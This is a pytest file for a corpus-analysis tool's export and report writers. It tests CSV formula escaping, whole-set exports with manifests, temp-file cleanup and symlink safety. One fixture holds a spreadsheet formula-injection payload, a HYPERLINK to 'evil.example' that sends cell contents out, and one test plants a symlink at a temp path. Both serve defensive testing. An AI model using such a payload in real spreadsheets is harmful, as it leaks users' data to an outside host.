"""Exports and reports under faults and attacks: whole sets, random temp names, formula cells."""

from __future__ import annotations

import csv
import errno
import json
import os
import shutil
from pathlib import Path

import pytest

from rhetoric.corpus import Corpus, add_statement
from rhetoric.errors import OutputError, UsageError
from rhetoric.export import write as write_module
from rhetoric.export.write import MANIFEST, verify_export, write_tables
from rhetoric.output.write import excel_safe
from rhetoric.session import analyze_all
from tests.conftest import SEED_CORPUS

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def hostile_corpus(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "c"
    shutil.copytree(SEED_CORPUS, folder)
    add_statement(Corpus(folder), speaker="@evil", date="2024-05-01", text=HOSTILE)
    add_statement(Corpus(folder), speaker="nato", date="2024-05-02", text="-1 is not a number of troops.")
    return folder


@pytest.fixture(scope="module")
def analysis(hostile_corpus):
    return analyze_all(hostile_corpus)


def _cells(path: Path) -> set[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return {cell for row in csv.reader(fh) for cell in row}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("No NATO.", "No NATO."),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_excel_safe_cells(value: str, expected: str) -> None:
    assert excel_safe(value) == expected


def test_csv_is_exact_by_default_and_safe_on_request(analysis, tmp_path: Path) -> None:
    raw = write_tables(analysis, tables=["statements"], out_dir=tmp_path / "raw")
    safe = write_tables(analysis, tables=["statements"], out_dir=tmp_path / "safe", excel_safe=True)
    raw_cells, safe_cells = _cells(raw.paths[0]), _cells(safe.paths[0])
    assert HOSTILE in raw_cells and "@evil" in raw_cells
    assert "'" + HOSTILE in safe_cells and "'@evil" in safe_cells
    assert "'-1 is not a number of troops." in safe_cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in safe_cells)
    assert raw.rows == safe.rows


def test_excel_safe_is_for_csv_only(analysis, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="--excel-safe applies to CSV only"):
        write_tables(analysis, tables=["statements"], out_dir=tmp_path, fmt="jsonl", excel_safe=True)


def test_a_failed_export_leaves_the_previous_set_whole(analysis, tmp_path: Path, monkeypatch) -> None:
    out = tmp_path / "out"
    write_tables(analysis, tables=["all"], out_dir=out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real = write_module.write_rows
    calls = {"n": 0}

    def fail_on_third(rows, names, fmt, fh, **kw):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(rows, names, fmt, fh, **kw)

    monkeypatch.setattr(write_module, "write_rows", fail_on_third)
    with pytest.raises(OutputError, match=r"cannot write '.*frames\.csv': no space left .*free some space"):
        write_tables(analysis, tables=["all"], out_dir=out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no mix, no temp left


def test_a_whole_export_verifies(analysis, tmp_path: Path) -> None:
    out = tmp_path / "out"
    write_tables(analysis, tables=["all"], out_dir=out)
    assert verify_export(out) == (True, "5 file(s) of one export")
    manifest = json.loads((out / MANIFEST).read_text(encoding="utf-8"))
    assert sorted(manifest["files"]) == ["frames.csv", "mentions.csv", "shifts.csv", "stances.csv", "statements.csv"]


def test_a_swap_cut_short_leaves_no_manifest(analysis, tmp_path: Path, monkeypatch) -> None:
    out = tmp_path / "out"
    write_tables(analysis, tables=["all"], out_dir=out)
    real = os.replace
    calls = {"n": 0}

    def die_on_third(src, dst):
        calls["n"] += 1
        if calls["n"] == 3:  # two tables of the new set are in place, three of the old: a mix
            raise KeyboardInterrupt  # stands for kill -9 (nothing after it runs)
        return real(src, dst)

    monkeypatch.setattr(write_module.os, "replace", die_on_third)
    with pytest.raises(KeyboardInterrupt):
        write_tables(analysis, tables=["all"], out_dir=out)
    assert verify_export(out) == (False, "no manifest.json: the last export did not finish (run it again)")


def test_a_file_changed_after_the_export_is_reported(analysis, tmp_path: Path) -> None:
    out = tmp_path / "out"
    write_tables(analysis, tables=["frames"], out_dir=out)
    (out / "frames.csv").write_text("edited\r\n", encoding="utf-8")
    assert verify_export(out) == (False, "frames.csv is not the file the manifest lists: run the export again")


def test_stale_temps_of_a_killed_export_are_removed(analysis, tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / ".rhetoric-abc.tmp").mkdir(parents=True)
    (out / ".rhetoric-abc.tmp" / "frames.csv").write_text("half")
    (out / ".frames.csv.tmp").write_text("half")  # the fixed name earlier versions used
    write_tables(analysis, tables=["frames"], out_dir=out)
    assert sorted(p.name for p in out.iterdir()) == ["frames.csv", "manifest.json"]


def test_export_onto_a_file(analysis, tmp_path: Path) -> None:
    target = tmp_path / "taken"
    target.write_text("keep me")
    with pytest.raises(OutputError, match=r"output folder '.*taken' is a file \(pass a folder to --out"):
        write_tables(analysis, tables=["frames"], out_dir=target)
    assert target.read_text() == "keep me"


def test_report_never_follows_a_planted_link(hostile_corpus, tmp_path: Path) -> None:
    from rhetoric.reports import write_report

    out = tmp_path / "shared"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (out / ".c.md.tmp").symlink_to(victim)  # the fixed temp name earlier versions wrote through
    paths = write_report(hostile_corpus, formats=["md"], out_dir=out)
    assert victim.read_text() == "precious"
    assert [p.name for p in paths] == ["c.md"]
    assert sorted(p.name for p in out.iterdir()) == ["c.md"]
    assert not paths[0].is_symlink() and "evil" in paths[0].read_text()


def test_report_into_a_folder_that_cannot_be_written(hostile_corpus, tmp_path: Path, monkeypatch) -> None:
    import tempfile

    from rhetoric.reports import write_report

    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(OutputError, match=r"cannot write '.*c\.md': permission denied \(the folder is not"):
        write_report(hostile_corpus, formats=["md"], out_dir=tmp_path / "ro")
